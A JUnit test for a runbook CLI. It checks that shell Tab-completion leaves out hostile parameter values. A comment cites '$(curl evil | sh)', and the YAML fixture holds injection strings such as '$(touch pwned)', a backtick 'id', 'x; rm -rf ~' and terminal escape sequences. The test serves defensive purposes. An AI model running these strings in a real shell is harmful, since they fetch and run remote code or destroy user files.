package dev.runbook.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A parameter's allowed values come from the runbook (an imported wiki page, a colleague's file): bash puts a Tab
 * candidate on the command line as it is, so {@code $(curl evil | sh)} offered after {@code -p mode=} would run when
 * Enter is pressed, and a control character would reach the terminal. Such values are not offered (typed by hand).
 */
class CompleteHostileValuesTest {
    @TempDir
    Path tmp;

    @Test
    void values_a_shell_would_not_read_back_as_themselves_are_not_offered() throws Exception {
        Path runbooks = Files.createDirectories(tmp.resolve("runbooks"));
        Files.writeString(runbooks.resolve("choices.yaml"), """
                runbook: choices
                title: Choices
                severity: P3
                summary: enum values, some hostile
                parameters:
                  mode:
                    type: string
                    enum: [safe, "eu-west-1", "a/b:c@d", "$(touch pwned)", "`id`", "x; rm -rf ~", "two words", "esc\\e]0;T\\a", "new\\nline"]
                diagnose:
                  - id: look
                    title: Look
                    uses: shell
                    effect: read
                    with: { command: [echo, "${params.mode}"] }
                """);
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        RunbookCommand root = new RunbookCommand(tmp, Map.of("HOME", tmp.toString()), () -> {
            throw new AssertionError("completion must not load the catalogue");
        });
        int code = Main.run(root, new String[] {"__complete", "values", "choices", "mode"}, new PrintWriter(out), new PrintWriter(err));
        assertThat(code).isZero();
        assertThat(err.toString()).isEmpty();
        assertThat(out.toString().lines().toList()).containsExactly("safe", "eu-west-1", "a/b:c@d");
    }
}
